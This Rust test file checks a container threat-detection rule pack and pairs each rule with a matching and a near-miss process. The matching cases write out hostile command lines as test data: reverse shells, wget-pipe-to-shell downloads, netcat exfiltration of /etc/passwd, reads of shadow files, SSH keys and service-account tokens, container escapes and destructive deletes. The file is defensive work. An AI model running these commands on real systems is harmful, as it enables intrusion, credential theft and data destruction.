use std::net::{IpAddr, Ipv4Addr};

use super::*;
use crate::candidate::fixtures::candidate;
use crate::candidate::{Direction, FileAccess, PeerAddress, ProcessAncestor, Protocol, Signal};

fn pack() -> RuleSet {
    RuleSet::default_pack().unwrap()
}

fn file(exe: &str, argv: &[&str], path: &str, access: FileAccess) -> CandidateAlert {
    let mut c = candidate(exe, argv);
    c.signals = vec![Signal::UnknownFile {
        path: path.into(),
        access,
        raw_path: None,
    }];
    c
}

fn peer(exe: &str, argv: &[&str], port: u16, direction: Direction) -> CandidateAlert {
    let mut c = candidate(exe, argv);
    c.signals = vec![Signal::UnknownPeer {
        addr: PeerAddress::Ip(IpAddr::V4(Ipv4Addr::new(203, 0, 113, 7))),
        port,
        proto: Protocol::Tcp,
        direction,
    }];
    c
}

fn with_parent(mut c: CandidateAlert, parent: &str) -> CandidateAlert {
    c.chain = vec![ProcessAncestor::new(
        parent,
        [crate::candidate::basename(parent)],
    )];
    c
}

/// (rule id, a candidate it must hit, a close candidate it must not hit)
fn cases() -> Vec<(&'static str, CandidateAlert, CandidateAlert)> {
    vec![
        (
            "mining-pool-protocol",
            candidate("/usr/bin/java", &["java", "-o", "stratum+tcp://pool.example:3333"]),
            candidate("/usr/bin/java", &["java", "-o", "https://pool.example/stratum"]),
        ),
        (
            "mining-pool-port",
            peer("/usr/bin/java", &["java"], 14444, Direction::Outbound),
            peer("/usr/bin/java", &["java"], 14444, Direction::Inbound),
        ),
        (
            "mining-pool-domain",
            candidate("/tmp/xmrig", &["xmrig", "-o", "pool.minexmr.com"]),
            candidate("/usr/bin/curl", &["curl", "https://pool.example.com/health"]),
        ),
        (
            "miner-tool",
            candidate("/tmp/XMRig", &["XMRig", "--version"]),
            candidate("/usr/bin/xmllint", &["xmllint", "a.xml"]),
        ),
        (
            "miner-arguments",
            candidate("/app/java", &["java", "--donate-level", "1", "-a", "rx/0"]),
            candidate("/app/java", &["java", "-jar", "app.jar", "--level", "1"]),
        ),
        (
            "scanner-tool",
            candidate("/usr/bin/masscan", &["masscan", "10.0.0.0/8", "-p80"]),
            candidate("/usr/bin/mapfile", &["mapfile"]),
        ),
        (
            "socat-run",
            candidate("/usr/bin/socat", &["socat", "TCP:1.2.3.4:80", "EXEC:/bin/sh"]),
            candidate("/usr/bin/cat", &["cat", "socat.txt"]),
        ),
        (
            "netcat-exec",
            candidate("/bin/nc", &["nc", "1.2.3.4", "4444", "-e", "/bin/sh"]),
            candidate("/bin/nc", &["nc", "-zv", "db", "5432"]),
        ),
        (
            "reverse-shell-dev-tcp",
            candidate("/bin/bash", &["bash", "-c", "exec 5<>/dev/tcp/10.0.0.1/4242"]),
            candidate("/bin/bash", &["bash", "-c", "ls /dev/tty"]),
        ),
        (
            "interactive-shell-with-socket",
            peer("/bin/sh", &["sh", "-i"], 4242, Direction::Outbound),
            candidate("/bin/sh", &["sh", "-i"]),
        ),
        (
            "shell-redirect-to-socket",
            candidate("/bin/bash", &["bash", "-c", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"]),
            candidate("/bin/bash", &["bash", "-c", "echo ok > /tmp/out 2>&1"]),
        ),
        (
            "scripted-reverse-shell",
            candidate(
                "/usr/bin/python3",
                &[
                    "python3",
                    "-c",
                    "import socket,os,pty;s=socket.socket();s.connect((\"10.0.0.1\",4242));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")",
                ],
            ),
            candidate("/usr/bin/python3", &["python3", "-m", "http.server"]),
        ),
        (
            "download-and-exec",
            candidate("/bin/sh", &["sh", "-c", "wget -q -O- http://x.example/i.sh | sh"]),
            candidate("/bin/sh", &["sh", "-c", "curl -fsS http://svc/healthz | grep ok"]),
        ),
        (
            "chmod-exec-in-tmp",
            candidate("/bin/chmod", &["chmod", "+x", "/tmp/kdevtmpfsi"]),
            candidate("/bin/chmod", &["chmod", "644", "/tmp/report.txt"]),
        ),
        (
            "exec-from-tmp",
            candidate("/dev/shm/.x/run", &["run"]),
            candidate("/usr/local/bin/run", &["run"]),
        ),
        (
            "shadow-read",
            file("/bin/cat", &["cat"], "/etc/shadow", FileAccess::Read),
            file("/bin/cat", &["cat"], "/etc/passwd", FileAccess::Read),
        ),
        (
            "ssh-key-read",
            file("/bin/cat", &["cat"], "/root/.ssh/id_ed25519", FileAccess::Read),
            file("/bin/cat", &["cat"], "/root/.ssh/id_ed25519.pub", FileAccess::Read),
        ),
        (
            "service-account-token-read",
            file(
                "/usr/bin/python3",
                &["python3", "x.py"],
                "/var/run/secrets/kubernetes.io/serviceaccount/..2024_01_01/token",
                FileAccess::Read,
            ),
            file(
                "/usr/bin/python3",
                &["python3", "x.py"],
                "/var/run/secrets/kubernetes.io/serviceaccount/ca.crt",
                FileAccess::Read,
            ),
        ),
        (
            "write-below-binary-dir",
            file("/bin/cp", &["cp"], "/usr/bin/ps", FileAccess::Write),
            file("/bin/cat", &["cat"], "/usr/bin/ps", FileAccess::Read),
        ),
        (
            "write-below-etc",
            file("/bin/sh", &["sh"], "/etc/ld.so.preload", FileAccess::Create),
            file("/bin/sh", &["sh"], "/etcetera/x", FileAccess::Create),
        ),
        (
            "shell-from-server-process",
            with_parent(candidate("/bin/sh", &["sh"]), "/usr/sbin/nginx"),
            with_parent(candidate("/bin/sh", &["sh"]), "/usr/bin/tini"),
        ),
        (
            "package-manager-in-container",
            candidate("/usr/bin/apt-get", &["apt-get", "install", "-y", "nmap"]),
            candidate("/usr/bin/dpkg", &["dpkg", "-l"]),
        ),
        (
            "kubectl-in-pod",
            candidate("/tmp/kubectl", &["kubectl", "get", "secrets", "-A"]),
            candidate("/usr/bin/kubens", &["kubens"]),
        ),
        (
            "search-private-keys-or-passwords",
            // a shell running busybox's find in-process: only its
            // command line shows it
            candidate(
                "/bin/sh",
                &["sh", "-c", "find / -name '*.pem' -o -name 'id_rsa*' 2>/dev/null"],
            ),
            candidate("/usr/bin/grep", &["grep", "-r", "TODO", "src/"]),
        ),
        (
            "archive-sensitive-directories",
            candidate("/bin/tar", &["tar", "czf", "/tmp/.l.tgz", "/etc", "/app"]),
            candidate("/bin/tar", &["tar", "czf", "/tmp/backup-1.tgz", "/app"]),
        ),
        (
            "clear-history-or-logs",
            file("/bin/rm", &["rm", "-f"], "/root/.ash_history", FileAccess::Delete),
            file("/bin/rm", &["rm", "-f"], "/var/log/app.log.1700000000.gz", FileAccess::Delete),
        ),
        (
            "destroy-top-level-directory",
            candidate("/bin/sh", &["sh", "-c", "rm -rf /app"]),
            candidate("/bin/rm", &["rm", "-rf", "/tmp/build-123"]),
        ),
        (
            "nsenter-into-host",
            candidate("/bin/sh", &["sh", "-c", "nsenter -t 1 -m -u -i -n sh"]),
            candidate("/usr/bin/nsenter", &["nsenter", "-t", "4242", "-n", "ss"]),
        ),
        (
            "setuid-or-setgid-bit-set",
            // busybox chmod inside a shell: only the command line shows it
            candidate("/bin/sh", &["sh", "-c", "cp /bin/busybox /tmp/.sh; chmod 4755 /tmp/.sh"]),
            candidate("/bin/chmod", &["chmod", "1777", "/tmp"]),
        ),
        (
            "user-startup-file-modified",
            file("/bin/sh", &["sh"], "/root/.ssh/authorized_keys", FileAccess::Write),
            file("/bin/sh", &["sh"], "/root/.ssh/known_hosts", FileAccess::Write),
        ),
        (
            "file-sent-with-network-tool",
            candidate("/bin/sh", &["sh", "-c", "nc -w 1 203.0.113.7 9999 < /etc/passwd"]),
            candidate("/bin/sh", &["sh", "-c", "nc -z 203.0.113.7 9999 < /dev/null"]),
        ),
        (
            "kernel-escape-interface-write",
            file(
                "/bin/sh",
                &["sh"],
                "/sys/fs/cgroup/rdma/release_agent",
                FileAccess::Write,
            ),
            file("/bin/cat", &["cat"], "/proc/sys/kernel/core_pattern", FileAccess::Read),
        ),
        (
            "host-disk-mounted",
            candidate("/bin/sh", &["sh", "-c", "mkdir /h; mount -t ext4 /dev/sda1 /h"]),
            candidate("/bin/mount", &["mount", "-t", "tmpfs", "tmpfs", "/scratch"]),
        ),
        (
            "node-control-plane-port",
            peer("/bin/nc", &["nc", "10.0.0.1", "10250"], 10250, Direction::Outbound),
            peer("/bin/nc", &["nc", "10.0.0.1", "10250"], 10250, Direction::Inbound),
        ),
    ]
}

#[test]
fn every_default_rule_hits_its_positive_case_and_not_its_negative_case() {
    let set = pack();
    for (id, pos, neg) in cases() {
        assert!(set.rule(id).is_some(), "no rule {id} in the default pack");
        let p = set.evaluate(&pos);
        assert!(
            p.ids().contains(&id),
            "{id} missed its positive case; hits {:?}",
            p.ids()
        );
        let n = set.evaluate(&neg);
        assert!(
            !n.ids().contains(&id),
            "{id} hit its negative case {:?}",
            neg.args.line()
        );
    }
}

#[test]
fn every_default_rule_has_a_test_case() {
    let set = pack();
    let tested: Vec<&str> = cases().iter().map(|(id, _, _)| *id).collect();
    for r in set.rules() {
        assert!(
            tested.contains(&r.id()),
            "default rule {} has no test case",
            r.id()
        );
    }
}

#[test]
fn the_default_pack_covers_the_issue_list() {
    let set = pack();
    assert!(set.rules().len() >= 20);
    let technique = regex::Regex::new(r"^T[0-9]{4}(\.[0-9]{3})?$").unwrap();
    for r in set.rules() {
        assert!(!r.tags().is_empty(), "{} has no MITRE tag", r.id());
        for t in r.tags() {
            assert!(
                technique.is_match(t),
                "{}: {t} is not an ATT&CK technique id",
                r.id()
            );
        }
        assert_eq!(r.source(), "default");
    }
}

#[test]
fn the_coverage_table_lists_every_rule_and_technique() {
    let doc = include_str!("../../../../docs/attack-coverage.md");
    for r in pack().rules() {
        assert!(
            doc.contains(&format!("`{}`", r.id())),
            "docs/attack-coverage.md does not list rule {}",
            r.id()
        );
        for t in r.tags() {
            assert!(
                doc.contains(&format!("| {t} ")),
                "docs/attack-coverage.md has no row for {t} (rule {})",
                r.id()
            );
        }
    }
}

#[test]
fn the_seed_miner_hits_the_miner_rules_with_full_confidence() {
    let set = pack();
    let c = candidate("/tmp/xmrig", &["./xmrig", "-o", "pool.minexmr.com"]);
    let m = set.evaluate(&c);
    assert!(m.ids().contains(&"mining-pool-domain"));
    assert!(m.ids().contains(&"exec-from-tmp"));
    let c = candidate("/tmp/xmrig", &["xmrig", "-o", "pool.minexmr.com"]);
    assert!(set.evaluate(&c).ids().contains(&"miner-tool"));
    assert!(set.evaluate(&c).score() > 99.0);
}

#[test]
fn a_benign_process_hits_no_rule() {
    let set = pack();
    let c = candidate(
        "/usr/bin/java",
        &["java", "-jar", "app.jar", "--timestamp=12345"],
    );
    let m = set.evaluate(&c);
    assert!(!m.is_hit());
    assert_eq!(m.score(), 0.0);
}

#[test]
fn scores_combine_by_noisy_or() {
    let yaml = r#"
rules:
  - id: a
    description: a
    score: 50
    tags: [T1059]
    when: { field: exe_name, equals: x }
  - id: b
    description: b
    score: 50
    tags: [T1059]
    when: { field: args, contains: "-y" }
"#;
    let set = RuleSet::builder().add_yaml("t", yaml).build().unwrap();
    let m = set.evaluate(&candidate("/x", &["x", "-y"]));
    assert_eq!(m.ids(), vec!["a", "b"]);
    assert!((m.score() - 75.0).abs() < 1e-9);
}

#[test]
fn user_rules_replace_or_disable_default_rules_by_id() {
    let yaml = r#"
rules:
  - id: socat-run
    description: off
    score: 0
    enabled: false
    when: { field: exe_name, equals: socat }
  - id: miner-tool
    description: stricter
    score: 10
    tags: [T1496]
    when: { field: exe_name, equals: xmrig }
"#;
    let set = RuleSet::builder()
        .default_pack()
        .add_yaml("user.yaml", yaml)
        .build()
        .unwrap();
    assert!(set.rule("socat-run").is_none());
    let r = set.rule("miner-tool").unwrap();
    assert_eq!(r.score(), 10.0);
    assert_eq!(r.source(), "user.yaml");
}

#[test]
fn cidr_ports_not_and_any_operators_work() {
    let yaml = r#"
rules:
  - id: egress-outside-cluster
    description: t
    score: 40
    tags: [T1041]
    when:
      all:
        - field: peer.addr
          cidr: [0.0.0.0/0]
        - not: { field: peer.addr, cidr: [10.0.0.0/8, 203.0.113.0/24] }
        - field: peer.port
          ports: [80, "8000-8999"]
"#;
    let set = RuleSet::builder().add_yaml("t", yaml).build().unwrap();
    let mut c = peer("/x", &["x"], 8080, Direction::Outbound);
    assert!(!set.evaluate(&c).is_hit(), "203.0.113.7 is excluded");
    c.signals = vec![Signal::UnknownPeer {
        addr: PeerAddress::Ip("198.51.100.1".parse().unwrap()),
        port: 8443,
        proto: Protocol::Tcp,
        direction: Direction::Outbound,
    }];
    assert!(set.evaluate(&c).is_hit());
    c.signals = vec![Signal::UnknownPeer {
        addr: PeerAddress::Ip("198.51.100.1".parse().unwrap()),
        port: 9000,
        proto: Protocol::Tcp,
        direction: Direction::Outbound,
    }];
    assert!(!set.evaluate(&c).is_hit());
}

#[test]
fn a_top_level_not_rule_hits_when_nothing_matched() {
    let yaml = r#"
rules:
  - id: not-in-shop
    description: t
    score: 10
    tags: [T1059]
    when: { not: { field: namespace, equals: shop } }
"#;
    let set = RuleSet::builder().add_yaml("t", yaml).build().unwrap();
    let mut c = candidate("/x", &["x"]);
    assert!(!set.evaluate(&c).is_hit());
    c.namespace = "other".into();
    assert!(set.evaluate(&c).is_hit());
}

#[test]
fn malformed_rules_are_rejected_with_the_rule_id() {
    let bad = [
        ("unknown field", "rules: [{id: a, description: d, score: 1, when: {field: nope, equals: x}}]"),
        ("two operators", "rules: [{id: a, description: d, score: 1, when: {field: exe, equals: x, glob: 'y*'}}]"),
        ("bad regex", "rules: [{id: a, description: d, score: 1, when: {field: exe, regex: '('}}]"),
        ("bad cidr", "rules: [{id: a, description: d, score: 1, when: {field: peer.addr, cidr: 300.1.1.1/8}}]"),
        ("cidr on text", "rules: [{id: a, description: d, score: 1, when: {field: exe, cidr: 10.0.0.0/8}}]"),
        ("score range", "rules: [{id: a, description: d, score: 101, when: {field: exe, equals: x}}]"),
        ("bad tag", "rules: [{id: a, description: d, score: 1, tags: [mining], when: {field: exe, equals: x}}]"),
        ("empty any", "rules: [{id: a, description: d, score: 1, when: {any: []}}]"),
        ("bad id", "rules: [{id: 'A B', description: d, score: 1, when: {field: exe, equals: x}}]"),
        ("bad port range", "rules: [{id: a, description: d, score: 1, when: {field: peer.port, ports: ['9-1']}}]"),
    ];
    for (what, yaml) in bad {
        let err = RuleSet::builder().add_yaml("t", yaml).build().unwrap_err();
        assert!(
            matches!(err, Error::RuleCompile { ref rule_id, .. } if rule_id == "a" || what == "bad id"),
            "{what}: {err}"
        );
    }
    let err = RuleSet::builder()
        .add_yaml("t.yaml", "rules: [{id: a, nonsense: 1}]")
        .build()
        .unwrap_err();
    assert!(matches!(err, Error::RuleSyntax { .. }), "{err}");
}

#[test]
fn multi_valued_fields_match_when_any_value_matches() {
    let yaml = r#"
rules:
  - id: under-curl
    description: t
    score: 10
    tags: [T1059]
    when: { field: ancestors.exe_name, equals: java }
"#;
    let set = RuleSet::builder().add_yaml("t", yaml).build().unwrap();
    // The fixture's chain is bash <- java.
    assert!(set.evaluate(&candidate("/x", &["x"])).is_hit());
}

mod properties {
    use super::*;
    use proptest::prelude::*;

    proptest! {
        #[test]
        fn evaluation_never_panics_on_arbitrary_text(exe in ".{0,40}", args in proptest::collection::vec(".{0,60}", 0..6), path in ".{0,60}") {
            let set = RuleSet::default_pack().unwrap();
            let argv: Vec<&str> = args.iter().map(String::as_str).collect();
            let mut c = file(&exe, &argv, &path, FileAccess::Write);
            c.signals.push(Signal::UnknownProcess);
            let m = set.evaluate(&c);
            prop_assert!((0.0..=100.0).contains(&m.score()));
        }

        #[test]
        fn a_glob_star_matches_any_single_component(name in "[a-zA-Z0-9._-]{1,20}") {
            let re = kestrel_events::Glob::new("/tmp/*").unwrap();
            let path = format!("/tmp/{name}");
            prop_assert!(re.is_match(&path));
        }
    }
}

#[test]
fn rule_actions_parse_in_rule_file_and_alert_spelling() {
    let yaml = |action: &str| {
        format!(
            "rules:\n  - id: x\n    description: x\n    score: 50\n    tags: [T1059]\n    action: {action}\n    when: {{field: proc.name, equals: nc}}\n"
        )
    };
    for (spelling, want) in [
        ("isolate_pod", RuleAction::IsolatePod),
        ("IsolatePod", RuleAction::IsolatePod),
        ("rotate_credentials", RuleAction::RotateCredentials),
        ("KillProcess", RuleAction::KillProcess),
    ] {
        let f = parse_rule_file("t.yaml", &yaml(spelling)).unwrap();
        assert_eq!(f.rules[0].action, want, "{spelling}");
    }
    assert!(parse_rule_file("t.yaml", &yaml("explode")).is_err());
}

#[test]
fn unix_socket_and_icmp_peers_match_by_name_and_protocol() {
    let yaml = r#"
rules:
  - id: container-runtime-socket
    description: connects to the container runtime's socket
    score: 90
    when:
      all:
        - field: signal
          equals: [unknown_peer]
        - field: peer.name
          glob: ["unix:/var/run/docker.sock", "unix:/run/containerd/*.sock"]
  - id: icmp-out
    description: sends ICMP
    score: 20
    when:
      all:
        - field: peer.proto
          equals: [icmp]
"#;
    let set = RuleSet::builder().add_yaml("t", yaml).build().unwrap();
    let mut c = candidate("/usr/bin/curl", &["curl"]);
    c.signals = vec![Signal::UnknownPeer {
        addr: PeerAddress::Name("unix:/var/run/docker.sock".into()),
        port: 0,
        proto: Protocol::Other(0),
        direction: Direction::Outbound,
    }];
    let hit = set.evaluate(&c);
    assert_eq!(hit.ids(), ["container-runtime-socket"]);
    // a named peer is no IP: address rules do not see it, file rules neither
    assert!(!super::field::Field::any_addr(&c, |_| true));
    c.signals = vec![Signal::UnknownPeer {
        addr: PeerAddress::Ip("198.51.100.1".parse().unwrap()),
        port: 0,
        proto: Protocol::Icmp,
        direction: Direction::Outbound,
    }];
    assert_eq!(set.evaluate(&c).ids(), ["icmp-out"]);
}

#[test]
fn a_failed_exec_is_a_file_access_exec_of_its_path() {
    let yaml = r#"
rules:
  - id: exec-attempt-in-writable-dir
    description: tried to run a program from a writable directory
    score: 70
    when:
      all:
        - field: signal
          equals: [failed_exec]
        - field: file.access
          equals: [exec]
        - field: file.path
          glob: ["/tmp/**", "/dev/shm/**"]
"#;
    let set = RuleSet::builder().add_yaml("t", yaml).build().unwrap();
    let mut c = candidate("/dev/shm/kworker", &["/dev/shm/kworker"]);
    c.signals = vec![Signal::FailedExec {
        path: "/dev/shm/kworker".into(),
        error: "EACCES".into(),
        raw_path: None,
    }];
    assert_eq!(set.evaluate(&c).ids(), ["exec-attempt-in-writable-dir"]);
    // a read of the same path is not an exec attempt
    c.signals = vec![Signal::UnknownFile {
        path: "/dev/shm/kworker".into(),
        access: FileAccess::Read,
        raw_path: None,
    }];
    assert!(!set.evaluate(&c).is_hit());
}
